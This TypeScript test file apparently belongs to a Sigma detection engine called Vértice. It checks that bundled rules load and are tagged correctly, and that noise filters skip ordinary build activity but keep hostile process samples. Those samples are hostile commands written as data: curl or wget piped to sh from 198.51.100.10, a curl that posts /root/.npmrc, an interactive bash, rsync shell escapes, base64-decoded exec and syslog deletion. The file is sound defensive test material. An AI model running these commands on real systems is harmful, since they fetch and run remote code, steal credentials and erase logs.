import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createReader } from '../../events/read.ts';
import { attackTag, techniqueById } from '../attack/attack.ts';
import { createSigmaEngine } from './compile/create-sigma-engine.ts';
import { compileRules } from './compile-rules.ts';
import { readRules } from './parse/read-rules.ts';
import { assembleRules } from './parse/rule-set.ts';
import { findRuleFiles, findTestFiles, loadRuleFolder } from './rule-folder.ts';
import { runRuleTests } from './rule-test.ts';
import { sigmaEventFromRecord, toSigmaEvent } from './taxonomy/to-sigma-event.ts';

const folder = join(import.meta.dirname, '../../../rules');
const set = await loadRuleFolder([folder]);
const rules = [...set.detections, ...set.correlations];

describe('the rules that come with Vértice', () => {
  it('are read without an error, each under an id of its own', () => {
    expect(set.problems.filter(({ severity }) => severity === 'error')).toEqual([]);
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    expect(rules.filter(({ id }) => !/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/.test(id))).toEqual([]);
    expect(rules.length).toBeGreaterThanOrEqual(60);
  });

  it('match and leave alone what their tests say, and every rule has tests of both kinds', async () => {
    const { engine, correlations } = compileRules(set);
    const read = createReader({ maxRecordBytes: 1_048_576 });
    const files = await findTestFiles([folder]);
    const report = await runRuleTests(files, set, { read, toSigmaEvent, engine, correlations });
    expect(report.problems).toEqual([]);
    expect(report.results.filter(({ failure }) => failure !== null)).toEqual([]);
    expect(report.untested.map(({ rule, lacks }) => `${rule.title}: ${lacks}`)).toEqual([]);
  });

  it('name techniques and tactics of the ATT&CK catalogue, none of them revoked', () => {
    const tags = rules.flatMap(({ title, tags: own }) => own.map((tag) => ({ title, tag })));
    const unknown = tags.filter(({ tag }) => tag.startsWith('attack.') && attackTag(tag) === null);
    expect(unknown).toEqual([]);
    const named = rules.flatMap(({ title, techniques }) => techniques.map((id) => ({ title, id })));
    expect(named.filter(({ id }) => techniqueById(id) === null)).toEqual([]);
  });

  it('say who wrote them, under which licence, and what may set them off', () => {
    const parts = new Set(
      set.correlations
        .filter(({ generate }) => !generate)
        .flatMap((rule) => rule.rules.map(({ ruleId }) => ruleId)),
    );
    const own = rules.filter(({ id }) => !parts.has(id));
    expect(rules.filter(({ author }) => author !== 'Vértice contributors').map(({ title }) => title)).toEqual(
      [],
    );
    const loud = own.filter(({ level }) => level === 'high' || level === 'critical');
    expect(
      loud.filter(({ falsePositives }) => falsePositives.length === 0).map(({ title }) => title),
    ).toEqual([]);
    expect(own.filter(({ techniques }) => techniques.length === 0).map(({ title }) => title)).toEqual([]);
  });

  it('have a test file beside every file of rules', async () => {
    const files = (await findRuleFiles([folder])).map(({ path }) => path);
    const untested = files.filter((path) => {
      return !dirname(path).endsWith('/filters') && !existsSync(path.replace(/\.yml$/, '.test.yml'));
    });
    expect(untested).toEqual([]);
  });
});

interface FilterCase {
  readonly filter: string;
  /** The log source that the filter is for. */
  readonly source: 'sysmon' | 'security';
  readonly ordinary: readonly Readonly<Record<string, string>>[];
  readonly hostile: readonly Readonly<Record<string, string>>[];
}

const venvPython = '/tmp/app/.venv/bin/python3';
const system = { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'DC1$' };

/** What the filters leave out, and beside it what the filtered rules are for. */
const filterCases: readonly FilterCase[] = [
  {
    filter: 'build-tools-below-tmp',
    source: 'sysmon',
    ordinary: [
      { ParentImage: '/tmp/app/.git/hooks/pre-commit', CommandLine: 'sh -c npm test' },
      { ParentImage: venvPython, CommandLine: '/bin/sh -c uname -p 2> /dev/null' },
      { ParentImage: '/tmp/crate/target/debug/tool', CommandLine: 'sh -c exit 1' },
    ],
    hostile: [
      { ParentImage: '/tmp/kworkerd', CommandLine: 'sh -c uname -a' },
      { ParentImage: '/tmp/.x/build/agent', CommandLine: 'sh -c id' },
      { ParentImage: venvPython, CommandLine: '/bin/bash -i' },
      { ParentImage: venvPython, CommandLine: 'sh -c curl http://198.51.100.10/a | sh' },
    ],
  },
  {
    filter: 'node-build-tools',
    source: 'sysmon',
    ordinary: [
      {
        Image: '/usr/bin/uname',
        ParentImage: '/usr/bin/node',
        ParentCommandLine: 'npm install',
        CommandLine: 'uname -a',
      },
      {
        Image: '/bin/sh',
        ParentImage: '/usr/bin/node',
        ParentCommandLine: 'node /app/node_modules/.bin/webpack --mode production',
        CommandLine: 'sh -c git rev-parse HEAD',
      },
    ],
    hostile: [
      {
        Image: '/bin/sh',
        ParentImage: '/usr/bin/node',
        ParentCommandLine: 'node /app/node_modules/.bin/next start',
        CommandLine: 'sh -c id',
      },
      {
        Image: '/usr/bin/whoami',
        ParentImage: '/usr/bin/node',
        ParentCommandLine: 'npm start',
        CommandLine: 'whoami',
      },
      {
        Image: '/bin/sh',
        ParentImage: '/usr/bin/node',
        ParentCommandLine: 'npm install',
        CommandLine: 'sh -c curl -d @/root/.npmrc http://198.51.100.10',
      },
    ],
  },
  {
    filter: 'env-with-shell-variable',
    source: 'sysmon',
    ordinary: [
      { CommandLine: 'env CONFIG_SHELL=/bin/bash make install' },
      { CommandLine: '/usr/bin/env -u DEBUG /bin/sh ./install-sh -c -d /usr/lib' },
    ],
    hostile: [
      { CommandLine: 'env /bin/sh' },
      { CommandLine: 'env SHELL=/bin/sh /bin/bash -p' },
      { CommandLine: 'env A=1 /bin/sh -c id' },
    ],
  },
  {
    filter: 'rsync-through-remote-shell',
    source: 'sysmon',
    ordinary: [
      { CommandLine: '/bin/sh /usr/local/bin/wrap backup rsync --server -vlogDtprze.iLsfxCIvu . /srv' },
      { CommandLine: 'rsync -a -e ssh /usr/bin/bash backup:/bin/' },
    ],
    hostile: [
      { CommandLine: 'rsync -e \'sh -c "sh 0<&2 1>&2"\' 127.0.0.1:/dev/null' },
      { CommandLine: 'sh -c id' },
    ],
  },
  {
    filter: 'python-encodes-and-prints',
    source: 'sysmon',
    ordinary: [
      {
        Image: '/usr/bin/python3.11',
        CommandLine: 'python3 -c import base64,os;print(base64.b64encode(os.urandom(32)).decode())',
      },
    ],
    hostile: [
      {
        Image: '/usr/bin/python3.11',
        CommandLine: 'python3 -c import base64;exec(base64.b64decode("aW1wb3J0IG9z"))',
      },
      {
        Image: '/usr/bin/python3.11',
        CommandLine: 'python3 -c import base64,os;os.system(base64.b64decode("aWQ=").decode())',
      },
    ],
  },
  {
    filter: 'python-http-client-in-environment',
    source: 'sysmon',
    ordinary: [{ Image: '/srv/app/.venv/bin/httpx', CommandLine: 'httpx https://www.example.com' }],
    hostile: [{ Image: '/usr/local/bin/httpx', CommandLine: 'httpx -l hosts.txt -title' }],
  },
  {
    filter: 'journal-kept-within-bounds',
    source: 'sysmon',
    ordinary: [
      { CommandLine: 'journalctl --vacuum-time=14d' },
      { CommandLine: 'journalctl --vacuum-size=500M' },
    ],
    hostile: [{ CommandLine: 'journalctl --vacuum-time=1s' }, { CommandLine: 'rm -f /var/log/syslog' }],
  },
  {
    filter: 'syslog-as-a-part-of-names',
    source: 'sysmon',
    ordinary: [
      { CommandLine: 'install -m 644 syslog.socket /lib/systemd/system/syslog.socket' },
      { CommandLine: 'grep -c LOG_ /usr/include/x86_64-linux-gnu/sys/syslog.h' },
    ],
    hostile: [{ CommandLine: 'rm -f /var/log/syslog.1' }, { CommandLine: 'bash -c : > /var/log/syslog' }],
  },
  {
    filter: 'encoded-files-and-local-test-servers',
    source: 'sysmon',
    ordinary: [
      { Image: '/usr/bin/openssl', CommandLine: 'openssl enc -d -base64 -in /tmp/w/a.b64 -out /tmp/w/a' },
      { Image: '/usr/bin/python3.11', CommandLine: 'python3 -m http.server 8000 --bind 127.0.0.1' },
    ],
    hostile: [
      { Image: '/usr/bin/python3.11', CommandLine: 'python3 -m http.server 8000' },
      { Image: '/usr/bin/bash', CommandLine: 'bash -c base64 -d /tmp/x.b64 | sh' },
    ],
  },
  {
    filter: 'words-of-the-parent-only',
    source: 'sysmon',
    ordinary: [
      { ParentCommandLine: 'pyenv exec python3 -m http.server', CommandLine: 'bash /opt/pyenv-hooks exec' },
    ],
    hostile: [
      { ParentCommandLine: '-bash', CommandLine: 'bash -c wget -q -O - http://198.51.100.10/a | sh' },
      { ParentCommandLine: '-bash', CommandLine: 'rm -f /var/log/syslog' },
    ],
  },
  {
    filter: 'windows-system-reads-accounts',
    source: 'security',
    ordinary: [{ ...system, CommandLine: '-', ProcessName: 'C:\\Windows\\System32\\lsass.exe' }],
    hostile: [
      { ...system, CommandLine: '-', ProcessName: 'C:\\Windows\\System32\\reg.exe' },
      {
        ...system,
        CommandLine: '-',
        SubjectUserSid: 'S-1-5-21-1',
        ProcessName: 'C:\\Windows\\System32\\lsass.exe',
      },
    ],
  },
  {
    filter: 'windows-machine-accounts-look-up',
    source: 'security',
    ordinary: [{ ...system, CommandLine: '-', ProcessName: 'C:\\Windows\\System32\\lsass.exe' }],
    hostile: [{ CommandLine: '-', SubjectUserName: 'ana', ProcessName: 'C:\\Windows\\System32\\lsass.exe' }],
  },
];

/** The filter beside rules that match everything and have the ids it names. */
async function engineBehind(name: string) {
  const path = join(folder, 'filters', `${name}.yml`);
  const text = await readFile(path, 'utf8');
  const ids = [...text.matchAll(/^ {4}- ([0-9a-f-]{36}) #/gm)].flatMap(([, id]) => id ?? []);
  const [, source = ''] = /^logsource:\n((?: {2}.*\n)+)/m.exec(text) ?? [];
  const standIns = ids
    .map(
      (id) =>
        `title: stand-in\nid: ${id}\nlogsource:\n${source}detection:\n  selection:\n    CommandLine: '*'\n  condition: selection\n`,
    )
    .join('---\n');
  const loaded = assembleRules([readRules(standIns, 'stand-in.yml'), readRules(text, path)]);
  expect(loaded.problems).toEqual([]);
  expect(loaded.detections.length).toBeGreaterThan(0);
  return createSigmaEngine(loaded.detections);
}

function recordOf({ source }: FilterCase, fields: Readonly<Record<string, string>>) {
  return source === 'sysmon'
    ? sigmaEventFromRecord(
        'windows',
        { EventID: 1, Channel: 'Linux-Sysmon/Operational', Computer: 'web1', ...fields },
        { product: 'linux', category: ['process_creation'], service: ['sysmon'] },
      )
    : sigmaEventFromRecord(
        'windows',
        { EventID: 4661, Channel: 'Security', Computer: 'dc1', ...fields },
        { product: 'windows', service: ['security'] },
      );
}

describe.each(filterCases)('the noise filter $filter', (one) => {
  it('leaves out ordinary work', async () => {
    const engine = await engineBehind(one.filter);
    expect(one.ordinary.filter((fields) => engine.match(recordOf(one, fields)).length > 0)).toEqual([]);
  });

  it('keeps what the rules behind it are for', async () => {
    const engine = await engineBehind(one.filter);
    expect(one.hostile.filter((fields) => engine.match(recordOf(one, fields)).length === 0)).toEqual([]);
  });
});
